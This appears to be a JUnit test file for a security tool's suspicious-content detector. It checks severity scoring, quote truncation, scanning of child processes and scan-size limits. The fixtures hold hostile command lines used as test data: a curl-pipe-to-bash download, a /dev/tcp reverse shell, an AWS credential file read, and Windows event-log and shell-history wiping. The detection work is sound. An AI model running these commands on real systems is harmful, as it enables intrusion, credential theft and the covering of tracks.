package io.runwatch.core.detect.scope;

import static io.runwatch.core.detect.scope.Contexts.context;
import static io.runwatch.core.detect.scope.Contexts.sendCommand;
import static org.assertj.core.api.Assertions.assertThat;

import io.runwatch.core.correlate.CommandCorrelation;
import io.runwatch.core.correlate.CorrelationStatus;
import io.runwatch.core.correlate.Evidence;
import io.runwatch.core.correlate.TargetCorrelation;
import io.runwatch.core.detect.DetectorHit;
import io.runwatch.core.detect.Severity;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.HostExecution;
import io.runwatch.core.model.Outcome;
import io.runwatch.core.model.TelemetryFormat;
import io.runwatch.core.policy.Policy;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class SuspiciousContentDetectorTest {
  private static final SuspiciousContentDetector DETECTOR = new SuspiciousContentDetector();

  @Test
  void namesTheCategoriesQuotesTheMostSevereMatchAndAddsForEachCategory() {
    AdminCommand c =
        sendCommand("2025-03-04T03:12:00Z")
            .content(
                "curl -s http://203.0.113.9/x | bash\nuseradd -m svc\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
            .build();

    DetectorHit hit = DETECTOR.evaluate(context(c, Policy.defaults())).orElseThrow();

    assertThat(hit.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(hit.score()).isEqualTo(100); // 90 + 5 · 2 further categories
    assertThat(hit.reason())
        .startsWith("SendCommand by AdminRole/alice carries reverse-shell and ")
        .contains("download-execute", "account-persistence")
        .contains("interactive-shell-dev-tcp in the request content")
        .contains("\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"");
    assertThat(hit.facts())
        .containsEntry("where", "the request content")
        .containsKey("match.curl-wget-pipe-shell");
  }

  @Test
  void quotesAreAtMost200Characters() {
    String longLine = "curl -s http://203.0.113.9/" + "a".repeat(400) + " | bash";
    AdminCommand c = sendCommand("2025-03-04T03:12:00Z").content(longLine).build();

    DetectorHit hit = DETECTOR.evaluate(context(c, Policy.defaults())).orElseThrow();

    assertThat(hit.facts().get("quote")).hasSizeLessThanOrEqualTo(200);
    assertThat(hit.reason()).doesNotContain("a".repeat(201));
  }

  @Test
  void readsChildrenOfHostEvidence() {
    AdminCommand c = sendCommand("2025-03-04T03:12:00Z").build();
    HostExecution script = exec("sh -c /var/lib/amazon/ssm/.../_script.sh");
    HostExecution child = exec("cat /root/.aws/credentials");
    CommandCorrelation correlation =
        new CommandCorrelation(
            c,
            List.of(
                new TargetCorrelation(
                    "i-0abc",
                    "web-1",
                    CorrelationStatus.CONFIRMED,
                    List.of(
                        new Evidence("i-0abc", script, "aws-run-command", null, List.of(child))),
                    null,
                    true)),
            null);

    DetectorHit hit =
        DETECTOR
            .evaluate(context(c, correlation, Policy.defaults(), List.of(), List.of()))
            .orElseThrow();

    assertThat(hit.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(hit.reason()).contains("credential-access", "a child process on web-1");
  }

  @Test
  void deniedAttemptsAreJudgedAndSaySo() {
    AdminCommand c =
        sendCommand("2025-03-04T03:12:00Z")
            .outcome(Outcome.DENIED)
            .content("wevtutil cl Security")
            .build();

    DetectorHit hit = DETECTOR.evaluate(context(c, Policy.defaults())).orElseThrow();

    assertThat(hit.severity()).isEqualTo(Severity.HIGH);
    assertThat(hit.reason()).contains("(denied)", "defense-evasion");
  }

  @Test
  void scansAtMost256KiBPerCommandAndCountsWhatItSkipped() {
    AdminCommand c = sendCommand("2025-03-04T03:12:00Z").build();
    List<HostExecution> children = new ArrayList<>();
    for (int i = 0; i < 4; i++) {
      children.add(exec(i + "#".repeat(ContentPatterns.MAX_SCAN_CHARS)));
    }
    children.add(exec("wevtutil cl Security " + "#".repeat(ContentPatterns.MAX_SCAN_CHARS)));
    children.add(exec("history -c"));
    CommandCorrelation correlation =
        new CommandCorrelation(
            c,
            List.of(
                new TargetCorrelation(
                    "i-0abc",
                    null,
                    CorrelationStatus.CONFIRMED,
                    List.of(new Evidence("i-0abc", exec("sh"), "aws-run-command", null, children)),
                    null,
                    true)),
            null);

    DetectorHit hit =
        DETECTOR
            .evaluate(context(c, correlation, Policy.defaults(), List.of(), List.of()))
            .orElseThrow();

    // "sh" and three 64 KiB texts fit; the fourth and the wevtutil one do not; the short history
    // wipe still fits in what is left.
    assertThat(hit.facts())
        .containsEntry("patterns", "shell-history-clear")
        .containsEntry("unscannedTexts", "2");
  }

  private static HostExecution exec(String commandLine) {
    return new HostExecution(
        "i-0abc",
        Instant.parse("2025-03-04T03:12:02Z"),
        1L,
        null,
        "/bin/sh",
        commandLine,
        "root",
        null,
        null,
        null,
        TelemetryFormat.SYSMON_LINUX,
        null,
        null);
  }
}
